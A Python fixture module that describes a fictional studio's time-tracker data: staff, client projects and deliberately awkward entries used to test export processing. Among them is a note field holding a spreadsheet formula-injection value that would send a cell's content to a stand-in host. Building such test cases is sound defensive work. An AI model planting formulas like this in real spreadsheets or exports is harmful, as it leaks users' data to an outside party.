"""Northwind Studio as its time tracker knows it: people, projects, tasks, and what went wrong.

Everything that a row of the exports can say is decided here, by hand; `generate` only lays it out
over the calendar.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date

FIRST, LAST = date(2026, 9, 28), date(2026, 11, 22)
"""Eight weeks, Monday to Sunday; 2026-11-01 is the night on which American clocks go back."""

EXPORTS = (date(2026, 9, 28), date(2026, 10, 12), date(2026, 10, 26), date(2026, 11, 9))
"""The first day of each fortnight's export."""

RENAMED = date(2026, 10, 26)
"""Exports from this day on call ACME's 'Website' 'Website redesign'."""

HOLIDAY = date(2026, 11, 11)
"""Veterans Day: the studio is closed, eight hours are paid."""

PACIFIC, EASTERN, CENTRAL = "America/Los_Angeles", "America/New_York", "America/Chicago"


AWAITING = {"dmitri": date(2026, 11, 16), "esther": date(2026, 11, 16)}
"""Who → the day from which nobody has approved the time yet: New York's last week."""

REJECTED = {("jamie", "2026-11-05", "0:40:00")}
"""Listed (who, day, duration) that the manager sent back."""


@dataclass(frozen=True)
class Person:
    """A worker with her habits. ``starts`` and ``minutes`` (a day) are minutes; ``work`` gives
    (project, task) as often as its weight; a ``timer`` user's entries have odd seconds."""

    name: str
    email: str
    zone: str
    starts: int
    minutes: int
    work: tuple[tuple[str, str], ...]
    timer: bool = False
    lunch: bool = False
    days: int = 5
    since: date = FIRST


PROJECTS = {
    "web": ("ACME", "Website"),
    "app": ("ACME", "Mobile app"),
    "brand": ("Borealis", "Brand refresh"),
    "site": ("Borealis", "Investor site"),
    "catalog": ("Cedar & Finch", "Autumn catalogue"),
    "shop": ("Cedar & Finch", "Online shop"),
    "portal": ("Halle Werke", "Dealer portal"),
    "intake": ("Tidewater", "Patient intake"),
    "retainer": ("Tidewater", "Design retainer"),
    "studio": ("", "Studio"),
    "skunk": ("", "Skunkworks"),
    "": ("", ""),
}
"""Short name → (client, project) in the tracker. Nobody has mapped Skunkworks yet."""

DES, DEV, RES, PM = "Design", "Development", "User research", "Project management"
PRINT, OPS, TALK = "Print production", "Operations", "Workshop"

# fmt: off
PEOPLE = (
    Person("Ana Reyes", "ana@northwind.example", PACIFIC, 540, 465,
           (("web", DES), ("web", DES), ("portal", DES), ("web", RES)), timer=True),
    Person("Ben Okafor", "ben@northwind.example", PACIFIC, 570, 480,
           (("app", DEV), ("app", DEV), ("shop", DEV)), lunch=True),
    Person("Chloe Nakamura", "chloe@northwind.example", PACIFIC, 525, 470,
           (("app", DES), ("intake", DES), ("intake", RES)), timer=True, lunch=True),
    Person("Dmitri Volkov", "dmitri@northwind.example", EASTERN, 510, 540,
           (("site", DEV), ("site", DEV), ("portal", DEV))),
    Person("Esther Lindqvist", "esther@northwind.example", EASTERN, 550, 470,
           (("brand", DES), ("site", DES), ("site", TALK))),
    Person("Farid Rahimi", "farid@northwind.example", CENTRAL, 480, 480,
           (("intake", DEV), ("intake", DEV), ("app", DEV)), timer=True),
    Person("Grace Whitfield", "grace@northwind.example", CENTRAL, 540, 450,
           (("retainer", DES), ("retainer", RES), ("intake", RES)), lunch=True),
    Person("Hugo Martín", "hugo@northwind.example", PACIFIC, 540, 470,
           (("catalog", PRINT), ("catalog", DES), ("shop", PM), ("studio", OPS))),
    Person("Kim Sato", "kim@northwind.example", PACIFIC, 510, 500,
           (("web", PM), ("portal", PM), ("brand", PM), ("site", TALK), ("studio", OPS))),
    Person("Jamie Ortiz", "jamie@northwind.example", PACIFIC, 600, 375,
           (("catalog", DES), ("catalog", DES), ("retainer", DES)), timer=True),
    # Started on 9 November; payroll has her rate, nobody has told the mapping.
    Person("Noor Haddad", "noor@northwind.example", PACIFIC, 540, 460,
           (("shop", DEV), ("app", DEV)), since=date(2026, 11, 9)),
)

CONTRACTORS = (
    Person("Lior Adler", "lior@adler.example", EASTERN, 0, 330,
           (("brand", DES), ("brand", DES), ("web", DES)), days=4, since=date(2026, 10, 5)),
    Person("Priya Raman", "priya@raman.example", CENTRAL, 0, 390,
           (("portal", DEV), ("portal", DEV), ("shop", DEV)), days=4, since=date(2026, 10, 26)),
)
# fmt: on
"""They hand in a sheet a month: a line a day and project, approved by the project's lead."""

# fmt: off
NOTES = {
    DES: ("Navigation, second draft", "Type scale", "Icons for the empty states", "",
          "Colour review, with Kim", "Überschriften für „Händlerportal“", "Hover & focus states"),
    DEV: ("Checkout: address form", "Fix: date picker, again", "Code review", "",
          'Copy of "Terms of use", legal\'s version', "Search index", "Flaky test"),
    RES: ("Interviews 3 + 4", "Notes from the clinic visit", "", "Affinity map 🗺"),
    PM: ("Weekly call", "Estimate, change order 2", "Planning", ""),
    PRINT: ("Proofs", "Paper samples, 120 g/m²", "Pre-press check"),
    OPS: ("Hiring", "Invoices", "Tidying the asset library"),
    TALK: ("Workshop, remote", "Workshop, on site; whiteboard photos in the folder"),
}
# fmt: on

#: (who, day, start, duration, project, task, note): start by the worker's own clock, duration
#: H:MM:SS, "" while the timer still runs. A worker's listed day has these rows and no others.
LISTED = (
    # Two entries overlap by half an hour.
    ("hugo", "2026-10-07", "09:00", "2:30:00", "catalog", PRINT, "Proofs, round 2"),
    ("hugo", "2026-10-07", "11:00", "3:00:00", "catalog", DES, "Cover, three options"),
    ("hugo", "2026-10-07", "14:30", "2:30:00", "studio", OPS, "Invoices"),
    # … and a quarter of an hour across two customers.
    ("esther", "2026-11-12", "09:15", "3:00:00", "brand", DES, "Guidelines, chapter 2"),
    ("esther", "2026-11-12", "12:00", "4:30:00", "site", DES, "Charts for the annual report"),
    # The same row twice: a double click in the tracker.
    ("farid", "2026-10-14", "08:00", "4:00:00", "intake", DEV, "Consent form"),
    ("farid", "2026-10-14", "12:30", "1:30:00", "intake", DEV, "Consent form, review"),
    ("farid", "2026-10-14", "12:30", "1:30:00", "intake", DEV, "Consent form, review"),
    ("farid", "2026-10-14", "14:00", "2:30:00", "app", DEV, "Push messages"),
    # Fourteen hours on the day before a launch, in California.
    ("chloe", "2026-10-15", "08:00", "4:30:00", "intake", DES, "Launch: last screens"),
    ("chloe", "2026-10-15", "13:00", "5:00:00", "intake", DES, "Launch: copy changes"),
    ("chloe", "2026-10-15", "18:30", "4:30:00", "intake", RES, "Launch: test with 5 nurses"),
    # Over midnight.
    ("chloe", "2026-10-20", "10:00", "5:15:00", "app", DES, "Store pictures"),
    ("chloe", "2026-10-20", "22:30", "2:15:00", "app", DES, "Store pictures, resubmitted"),
    ("chloe", "2026-10-21", "11:00", "6:00:00", "app", DES, "Onboarding"),
    # Seven days of one workweek, Sunday to Saturday; Monday to Friday are ordinary days.
    ("ben", "2026-10-18", "10:00", "4:00:00", "app", DEV, "Crash on start-up, hot fix"),
    ("ben", "2026-10-24", "09:00", "9:00:00", "app", DEV, "Release 2.0"),
    # The night of 1 November: two hours on the clock are three, half an hour is ninety minutes.
    ("ben", "2026-11-01", "00:30", "3:00:00", "shop", DEV, "Moving the shop to the new server"),
    ("ana", "2026-11-01", "01:15", "1:30:00", "web", DES, "Watching the move, fixing images"),
    # No project chosen; no task either.
    ("grace", "2026-10-22", "09:00", "4:00:00", "retainer", DES, "October mailing"),
    ("grace", "2026-10-22", "13:30", "1:45:00", "", DES, "?? ask Kim where this goes"),
    ("jamie", "2026-11-05", "10:00", "3:30:00", "catalog", DES, "Cropping"),
    ("jamie", "2026-11-05", "14:00", "0:40:00", "", "", ""),
    # Started and stopped in the same second.
    ("ana", "2026-10-29", "09:00", "3:45:00", "web", DES, "Team page"),
    ("ana", "2026-10-29", "12:45", "0:00:00", "web", DES, ""),
    ("ana", "2026-10-29", "13:30", "3:30:00", "portal", DES, "Händlersuche"),
    # Went home with the timer running.
    ("grace", "2026-11-20", "09:00", "6:30:00", "retainer", DES, "November mailing"),
    ("grace", "2026-11-20", "16:10", "", "retainer", DES, "Clean-up"),
    # Texts that a spreadsheet would run, and texts that break careless readers.
    ("kim", "2026-10-13", "08:45", "2:00:00", "web", PM, '=HYPERLINK("//x.example?"&A1,"Notes")'),
    ("kim", "2026-10-13", "10:45", "1:15:00", "brand", PM, '+49 345 5550100: call, "urgent"'),
    ("kim", "2026-10-13", "13:00", "2:30:00", "portal", PM, "@Ana: Größe, Maße & Preise; ナビ"),
    ("kim", "2026-10-13", "15:30", "2:00:00", "studio", OPS, "Quotes:\nsee ''shared'' folder"),
    # The secret project: weeks of it before anybody asks who pays.
    ("ben", "2026-10-28", "09:30", "8:00:00", "skunk", DEV, "Prototype"),
    ("ben", "2026-11-04", "09:30", "7:30:00", "skunk", DEV, "Prototype, demo for Kim"),
    ("chloe", "2026-11-05", "09:00", "6:15:00", "skunk", DES, "Screens for the demo"),
    ("chloe", "2026-11-17", "09:00", "7:45:00", "skunk", DES, "Second round"),
    ("ben", "2026-11-18", "09:30", "8:00:00", "skunk", DEV, "Prototype 2"),
    # Away.
    ("chloe", "2026-11-19", "09:00", "8:00:00", "studio", "PTO", ""),
    ("chloe", "2026-11-20", "09:00", "8:00:00", "studio", "PTO", ""),
    ("hugo", "2026-10-16", "09:00", "8:00:00", "studio", "Sick leave", ""),
    ("esther", "2026-10-30", "09:00", "4:00:00", "studio", "PTO", "Dentist"),
    ("esther", "2026-10-30", "13:00", "3:45:00", "brand", DES, "Guidelines, chapter 1"),
    # A day that was written down three weeks late, and so stands in a later export.
    ("dmitri", "2026-10-09", "08:30", "9:00:00", "site", DEV, "Charts (entered late)"),
    # An entry that was edited after it had been exported: once as it was, once as it is.
    ("jamie", "2026-10-23", "10:00", "4:00:00", "catalog", DES, "Cropping"),
    ("jamie", "2026-10-23", "10:00", "5:30:00", "catalog", DES, "Cropping, all of it"),
)

STANDS_IN = {
    ("dmitri", "2026-10-09", "9:00:00"): (date(2026, 10, 26),),
    ("jamie", "2026-10-23", "4:00:00"): (date(2026, 10, 12),),
    ("jamie", "2026-10-23", "5:30:00"): (date(2026, 10, 26),),
}
"""A listed (who, day, duration) → the exports in which it stands, where its day doesn't tell."""
